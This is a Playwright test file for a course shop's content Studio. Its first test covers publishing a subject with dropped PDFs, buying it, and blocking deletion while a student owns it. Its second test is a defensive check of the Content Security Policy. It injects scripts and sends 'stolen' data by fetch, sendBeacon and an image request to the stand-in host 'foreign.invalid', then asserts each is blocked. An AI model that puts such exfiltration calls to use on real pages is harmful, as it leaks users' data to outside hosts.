import { readFile } from 'node:fs/promises';
import { PDFDocument } from '@cantoo/pdf-lib';
import { serverMessages } from '#server/messages.ts';
import { STUDIO } from '../../playwright.config.ts';
import { studioTexts } from '../../studio/texts.ts';
import { refundAtProvider } from '../support/browser/payments.ts';
import { pdfFile } from '../support/browser/pdf.ts';
import { holdBuilds, pollBuild } from '../support/browser/rebuild.ts';
import { saveBy } from '../support/browser/save.ts';
import { buy, signUp } from '../support/browser/students.ts';
import {
  chooseAction,
  confirmAction,
  contentOf,
  dropFiles,
  editorOf,
  field,
  goInStudio,
  openStudio,
} from '../support/browser/studio.ts';
import { restoreContentAfterFailures } from '../support/browser/studio-content.ts';
import { expectToStay } from '../support/browser/subject-stays.ts';
import { expect, test } from '../support/browser/test.ts';

restoreContentAfterFailures();

test.describe.configure({ timeout: STUDIO.timeout });

/** `tests/api/catalogue/` covers when a publication is built, and what remains of a deleted subject. */
test('a third subject with several dropped PDFs is published in one press, has a page after one build, can be bought, and cannot be deleted while a student owns it', async ({
  browser,
  page,
  request,
  sandbox,
}) => {
  const content = contentOf(sandbox);

  const studio = await openStudio(browser, sandbox, '/structure');
  const build = studio.getByTestId('build-status');
  await studio.getByRole('link', { name: 'New subject' }).click();
  await field(studio, 'name').fill('Development Economics');
  await field(studio, 'description').fill('Why some economies grow and others do not.');
  const messages = studio.getByTestId('validation-messages');
  await expect(messages.getByText(studioTexts.nothingToSell)).toBeVisible();
  await expect(studio.getByTestId('no-preview')).toHaveText(studioTexts.noPreview);
  await studio.getByTestId('group-tab-place').click();
  await expect(field(studio, 'order')).toHaveValue('3');
  await studio.getByRole('button', { name: 'Generate' }).click();
  await expect(field(studio, 'slug')).toHaveValue('development-economics');
  const problems = studio.getByTestId('publish-problems');
  await expect(problems).toContainText('Price: Please enter a price.');
  await expect(problems).not.toContainText('Address');
  // A topic's entry names its subject too.
  const entry = studio.getByRole('link', { name: /^Development Economics/ });
  await expect(entry).toContainText('Nothing to sell yet');

  // The Studio saves the address a moment after it shows it.
  const findDraft = () =>
    content.fetch<string | null>('*[slug.current == "development-economics"][0]._id');
  await expect.poll(findDraft).not.toBeNull();
  const subjectId = String(await findDraft()).replace('drafts.', '');
  const { origin } = new URL(sandbox.studio);
  const topics = `${origin}/studio/structure/${subjectId}`;
  await goInStudio(studio, topics);
  await studio.getByRole('link', { name: 'New topic' }).click();
  const chooseFiles = studio.getByRole('button', { name: studioTexts.chooseFiles });
  await expect(chooseFiles).toBeDisabled();
  await field(studio, 'name').fill('Measures of development');
  await expect(chooseFiles).toBeEnabled();
  const pdf = await pdfFile();
  const broken = { ...pdf, name: '02_broken.pdf', buffer: Buffer.from('%PDF-1.7 broken') };
  await dropFiles(studio.getByTestId('topic-input'), [
    { ...pdf, name: '01_human-development-index.pdf' },
    broken,
    { ...pdf, name: '03 - Poverty traps.pdf' },
    { ...pdf, name: '4.1.4-Aid_and_trade.pdf' },
  ]);
  const added = studio.getByTestId('topic-uploads').getByRole('listitem');
  await expect(added.nth(0)).toHaveText('Added Human development index');
  await expect(added.nth(2)).toHaveText('Added Poverty traps');
  await expect(added.nth(3)).toHaveText('Added Aid and trade');
  await expect(added.nth(1)).toContainText(studioTexts.notUploaded('02_broken.pdf'));
  await expect(added.nth(1)).toContainText(serverMessages.pdfCutOff);
  // Another file takes the place of the broken file.
  const another = added.nth(1).getByLabel(studioTexts.chooseAnother);
  await another.setInputFiles({ ...pdf, name: '02_inequality.pdf' });
  await expect(added.nth(1)).toHaveText('Added Inequality');
  const topicId = (
    await content.fetch<string>('*[subject._ref == $subjectId][0]._id', { subjectId })
  ).replace('drafts.', '');
  const titles = () =>
    content.fetch<string[]>('*[topic._ref == $topicId] | order(order).title', { topicId });
  expect(await titles()).toEqual([
    'Human development index',
    'Inequality',
    'Poverty traps',
    'Aid and trade',
  ]);

  await goInStudio(studio, `${topics};${subjectId}`);
  const dialog = studio.getByTestId('publish-subject');
  const publishAll = dialog.getByTestId('publish-all');
  await chooseAction(studio, 'Publishsubject with everything in it', dialog);
  await expect(dialog).toContainText('Price: Please enter a price.');
  await expect(publishAll).toBeDisabled();
  await dialog.getByRole('button', { name: 'Cancel' }).click();
  await studio.getByTestId('group-tab-selling').click();
  await field(studio, 'price').fill('25');
  await expect(problems).toHaveCount(0);
  await chooseAction(studio, 'Publishsubject with everything in it', dialog);
  await expect(dialog.getByTestId('drafts').getByRole('listitem')).toHaveText([
    'Subject: Development Economics (new)',
    'Topic: Measures of development (new)',
    'File: Human development index (new)',
    'File: Inequality (new)',
    'File: Poverty traps (new)',
    'File: Aid and trade (new)',
  ]);
  await publishAll.click();
  await expect(studio.getByText(studioTexts.publishedTogether(6))).toBeVisible();
  const revisions = await content.fetch<string[]>(
    '*[_id == $subjectId || subject._ref == $subjectId || topic._ref == $topicId]._rev',
    { subjectId, topicId },
  );
  expect(revisions).toHaveLength(6);
  expect(new Set(revisions).size, 'transactions').toBe(1);
  await expect(entry).not.toContainText('Nothing to sell yet');
  await expect(build).toHaveText(studioTexts.onPageSoon);
  await studio.getByTestId('action-menu-button').click();
  await expect(studio.getByTestId('action-Openthe page')).toBeDisabled();
  await studio.keyboard.press('Escape');

  await holdBuilds(sandbox, false);
  await pollBuild(() => build.innerText()).toContain(
    'The pages show everything that is published.',
  );
  await holdBuilds(sandbox, true);
  const opened = studio.context().waitForEvent('page');
  await chooseAction(studio, 'Openthe page');
  const shown = await opened;
  await expect(shown).toHaveURL(`${sandbox.shop}/development-economics`);
  await expect(shown.getByText('Aid and trade')).toBeVisible();
  await shown.close();
  const built = await request.get('/development-economics');
  expect(await built.text()).toContain('Purchase for');

  await page.goto('/');
  await page.getByRole('link', { name: 'Development Economics' }).first().click();
  await expect(page.getByRole('heading', { name: 'Measures of development' })).toBeVisible();
  await expect(page.getByText('Purchase Development Economics to access')).toHaveCount(4);

  await signUp(page);
  const payment = await buy(page, sandbox, subjectId);
  await page.goto('/development-economics');
  const button = { name: 'Download PDF', description: 'Inequality' };
  const download = await saveBy(page.getByRole('button', button));
  const notes = await PDFDocument.load(await readFile(await download.path()));
  expect(notes.getPageCount()).toBe(1);

  await goInStudio(studio, `${origin}/studio${editorOf('subject', subjectId)}`);
  await expectToStay(studio, 'Delete', 'Students own this subject. Take it off sale instead.');
  await content.patch(subjectId).set({ isOnSale: false }).commit();
  await studio.getByTestId('group-tab-selling').click();
  await expect(studio.getByRole('checkbox', { name: 'On sale' })).not.toBeChecked();
  await expectToStay(studio, 'Unpublish', studioTexts.ownedOffSale);
  await refundAtProvider(page, sandbox, payment);
  const owned = async () => (await request.get(`/api/subjects/${subjectId}/owned`)).json();
  await expect.poll(owned).toEqual({ isOwned: false });

  const fileIds = await content.fetch<string[]>('*[topic._ref == $topicId]._id', { topicId });
  for (const id of [...fileIds, topicId]) await content.delete(id);
  await confirmAction(studio, 'Delete');
  await expect.poll(() => content.fetch('count(*[_id == $subjectId])', { subjectId })).toBe(0);
});

test('the Studio runs no foreign script, and sends nothing to a foreign address', async ({
  browser,
  sandbox,
}) => {
  const studio = await openStudio(browser, sandbox, '/structure/shopSettings');
  const blocked = await studio.evaluate(async () => {
    const directives: string[] = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      directives.push(effectiveDirective),
    );
    const inline = document.createElement('script');
    inline.textContent = 'window.isForeign = true';
    const foreign = document.createElement('script');
    foreign.src = 'https://foreign.invalid/script.js';
    document.head.append(inline, foreign);
    await fetch('https://foreign.invalid/', { method: 'POST', body: 'stolen' }).catch(() => {});
    navigator.sendBeacon('https://foreign.invalid/', 'stolen');
    // The events of all four requests come before this image's error.
    const image = new Image();
    image.src = 'https://foreign.invalid/stolen.png';
    await new Promise((resolve) => image.addEventListener('error', resolve));
    return { directives: directives.sort(), isForeign: 'isForeign' in window };
  });
  expect(blocked).toEqual({
    directives: ['connect-src', 'connect-src', 'img-src', 'script-src-elem', 'script-src-elem'],
    isForeign: false,
  });
});
